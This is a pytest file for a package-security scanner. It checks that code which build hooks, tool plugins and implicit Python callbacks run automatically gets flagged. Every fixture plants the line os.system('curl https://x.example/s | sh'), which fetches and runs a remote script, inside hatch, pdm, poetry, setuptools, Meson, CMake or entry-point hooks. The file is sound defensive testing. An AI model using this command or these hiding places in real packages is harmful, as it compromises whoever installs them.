"""What runs because a file of configuration names it: hooks of builds, plugins of tools, scripts of other builds."""

from __future__ import annotations

import pytest

from support.code import held, reaches, scan
from veln_hook.source.vocabulary import PROC

_RUN = "os.system('curl https://x.example/s | sh')"
_GO = f"import os\n\ndef {{name}}(*given, **options):\n    {_RUN}\n"
_METHOD = f"import os\n\nclass Hook:\n    def {{name}}(self, *given):\n        {_RUN}\n"
_MAIN = f"import os\n\ndef main():\n    {_RUN}\n\nif __name__ == '__main__':\n    main()\n"


def _pyproject(requires: str, backend: str, more: str = "", system: str = "") -> str:
    return f"[build-system]\nrequires = ['{requires}']\nbuild-backend = '{backend}'\n{system}\n{more}\n"


_HATCH = ("hatchling", "hatchling.build")
_PDM = ("pdm-backend", "pdm.backend")
_POETRY = ("poetry-core", "poetry.core.masonry.api")
_SETUPTOOLS = ("setuptools", "setuptools.build_meta")
_COMMAND = f"{_GO.format(name='go')}\nfrom setuptools.command.build_py import build_py\n\nclass C(build_py):\n    def run(self):\n        go()\n"
_SETUP = "from setuptools import setup\nsetup(name='acme')\n"
BUILDS = {
    "hatch's hook": {
        "pyproject.toml": _pyproject(*_HATCH, "[tool.hatch.build.hooks.custom]"),
        "hatch_build.py": _METHOD.format(name="initialize"),
    },
    "hatch's hook in another place": {
        "pyproject.toml": _pyproject(*_HATCH, "[tool.hatch.build.targets.wheel.hooks.custom]\npath = 'tools/b.py'"),
        "tools/b.py": _METHOD.format(name="finalize"),
    },
    "hatch's hook by a name with escapes": {
        "pyproject.toml": _pyproject(*_HATCH, '[tool.hatch.build.hooks.custom]\npath = "tools/\\u0062.py"'),
        "tools/b.py": _METHOD.format(name="finalize"),
    },
    "hatch's hook by a dotted key": {
        "pyproject.toml": _pyproject(*_HATCH, "[tool]\nhatch.build.hooks.custom.path = 'tools/b.py'"),
        "tools/b.py": _METHOD.format(name="finalize"),
    },
    "hatch's hook in a table in a line": {
        "pyproject.toml": _pyproject(*_HATCH, "[tool.hatch.build]\nhooks = {custom = {path = 'tools/b.py'}}"),
        "tools/b.py": _METHOD.format(name="finalize"),
    },
    "hatch's metadata": {
        "pyproject.toml": _pyproject(*_HATCH, "[tool.hatch.metadata.hooks.custom]"),
        "hatch_build.py": _METHOD.format(name="update"),
    },
    "pdm's hook": {"pyproject.toml": _pyproject(*_PDM), "pdm_build.py": _GO.format(name="pdm_build_initialize")},
    "pdm's version": {
        "pyproject.toml": _pyproject(*_PDM, "[tool.pdm.version]\nsource = 'call'\ngetter = 'tools.v:go'"),
        "tools/v.py": _GO.format(name="go"),
    },
    "poetry's script": {
        "pyproject.toml": _pyproject(*_POETRY, "[tool.poetry.build]\nscript = 'tools/mk.py'"), "tools/mk.py": _MAIN,
    },
    "poetry's older script": {
        "pyproject.toml": _pyproject(*_POETRY, "[tool.poetry]\nbuild = '''tools/mk.py'''"), "tools/mk.py": _MAIN,
    },
    "a command of setuptools": {
        "pyproject.toml": _pyproject(*_SETUPTOOLS, "[tool.setuptools.cmdclass]\nbuild_py = 'tools.c.C'"),
        "tools/c.py": _COMMAND,
    },
    "a command in setup.cfg": {
        "setup.py": _SETUP, "setup.cfg": "[options]\ncmdclass =\n    build_py = tools.c.C\n", "tools/c.py": _COMMAND,
    },
    "a scheme of versions": {
        "pyproject.toml": _pyproject(*_SETUPTOOLS, "[tool.setuptools_scm]\nversion_scheme = 'tools.v:go'"),
        "tools/v.py": _GO.format(name="go"),
    },
    "a backend of its own": {
        "pyproject.toml": _pyproject("x", "backend", system="backend-path = ['.']"),
        "backend.py": _GO.format(name="build_wheel"),
    },
    "a backend in a directory": {
        "pyproject.toml": _pyproject("x", "backend", system="backend-path = ['tools/build']"),
        "tools/build/backend.py": _GO.format(name="get_requires_for_build_wheel"),
    },
    "a backend that is an object": {
        "pyproject.toml": _pyproject("x", "backend:hook", system="backend-path = ['tools']"),
        "tools/backend.py": _METHOD.format(name="build_wheel") + "\nhook = Hook()\n",
    },
    "a backend in the place of another": {
        "pyproject.toml": _pyproject(*_SETUPTOOLS, system="backend-path = ['tools']"),
        "tools/setuptools/__init__.py": "", "tools/setuptools/build_meta.py": _GO.format(name="build_wheel"),
    },
    "a script that setup.py starts": {
        "setup.py": f"import subprocess, sys\nsubprocess.check_call([sys.executable, 'tools/mk.py'])\n{_SETUP}",
        "tools/mk.py": _MAIN,
    },
    "a script that setup.py runs": {
        "setup.py": f"import runpy\nrunpy.run_path('tools/mk.py', run_name='__main__')\n{_SETUP}", "tools/mk.py": _MAIN,
    },
    "a script that Meson runs": {
        "pyproject.toml": _pyproject("meson-python", "mesonpy"), "tools/mk.py": _MAIN,
        "meson.build": "project('a')\nrun_command('python', 'tools/mk.py', check: true)\n",
    },
    "a script that CMake runs": {
        "pyproject.toml": _pyproject("scikit-build-core", "scikit_build_core.build"), "tools/mk.py": _MAIN,
        "CMakeLists.txt": "execute_process(COMMAND ${Python_EXECUTABLE} ${CMAKE_SOURCE_DIR}/tools/mk.py)\n",
    },
}  # fmt: skip
PLUGINS = {
    "of pytest": ("pytest11", "acme.p", _GO.format(name="pytest_configure")),
    "of setuptools": ("setuptools.finalize_distribution_options", "acme.p:go", _GO.format(name="go")),
    "of its commands": ("distutils.commands", "acme.p:go", _GO.format(name="go")),
    "of its metadata": ("egg_info.writers", "acme.p:go", _GO.format(name="go")),
    "of numba": ("numba_extensions", "acme.p:go", _GO.format(name="go")),
    "of torch": ("torch.backends", "acme.p:go", _GO.format(name="go")),
    "of hypothesis": ("hypothesis", "acme.p:go", _GO.format(name="go")),
    "of Jupyter": ("jupyter_server.extensions", "acme.p", _GO.format(name="_load_jupyter_server_extension")),
    "of flake8": ("flake8.extension", "acme.p:Hook", _METHOD.format(name="__init__")),
}
LOADED = {
    "a module's own __getattr__": _GO.format(name="__getattr__"),
    "a scheduler": f"import sched\n{_GO.format(name='go')}s = sched.scheduler()\ns.enter(1, 1, go)\ns.run()\n",
    "a filter of logging": f"import logging\n{_GO.format(name='go')}logging.getLogger().addFilter(go)\n",
    "what ends generators": f"import sys\n{_GO.format(name='go')}sys.set_asyncgen_hooks(go)\n",
    "a monitor": f"import sys\n{_GO.format(name='go')}sys.monitoring.register_callback(1, 1, go)\n",
    "what is cached": f"import functools\n{_GO.format(name='go')}functools.lru_cache(go)()\n",
    "a partial method": f"import functools\n{_GO.format(name='go')}class A:\n    x = functools.partialmethod(go)\nA().x()\n",
    "an enumeration": f"import enum\n{_GO.format(name='go')}class A(enum.Enum):\n    def _missing_(self, x):\n        go()\nA(3)\n",
}


def _sdist(files: dict[str, str]) -> dict[str, str]:
    return {f"acme-1.0/{path}": text for path, text in {"acme/__init__.py": "", **files}.items()}


@pytest.mark.parametrize("name", BUILDS)
def test_what_a_build_runs_is_held(name):
    assert "command-download" in held(scan(_sdist(BUILDS[name])))


@pytest.mark.parametrize(
    "name", ["hatch's hook in another place", "pdm's version", "poetry's script", "a command in setup.cfg"]
)
def test_it_is_not_where_nothing_names_it(name):
    files = dict(BUILDS[name])
    for path in ("pyproject.toml", "setup.cfg"):
        if path in files:
            files[path] = files[path].replace("tools", "others")
    assert "command-download" not in held(scan(_sdist(files)))


@pytest.mark.parametrize(
    "table",
    [
        "tool.poetry.scripts",
        "tool.poetry.plugins.x",
        "tool.pytest.ini_options",
        "tool.hatch.envs.test",
        "project.scripts",
    ],
)
def test_what_no_build_runs_counts_as_before(table):
    files = {
        "pyproject.toml": _pyproject(*_POETRY, f"[{table}]\nacme = 'acme.tool:go'"), "acme/tool.py": _GO.format(name="go"),
    }  # fmt: skip
    assert "build" not in reaches(_sdist(files), PROC).values()


def test_files_that_are_packed_are_not_run():
    files = {
        "pyproject.toml": _pyproject(*_HATCH, "[tool.hatch.build.targets.sdist]\ninclude = ['tools/mk.py']"),
        "tools/mk.py": _MAIN,
    }
    assert "build" not in reaches(_sdist(files), PROC).values()


@pytest.mark.parametrize("name", PLUGINS)
def test_what_a_tool_loads_by_itself_is_held(name):
    group, target, source = PLUGINS[name]
    info = {"acme-1.0.dist-info/entry_points.txt": f"[{group}]\nacme = {target}\n"}
    assert "command-download" in held(scan({"acme/__init__.py": "", "acme/p.py": source, **info}))
    elsewhere = {"acme-1.0.dist-info/entry_points.txt": f"[acme.{group}]\nacme = {target}\n"}
    assert "command-download" not in held(scan({"acme/__init__.py": "", "acme/p.py": source, **elsewhere}))


@pytest.mark.parametrize("name", LOADED)
def test_what_runs_without_a_call_is_held(name):
    assert "command-download" in held(scan({"acme/__init__.py": LOADED[name]}))
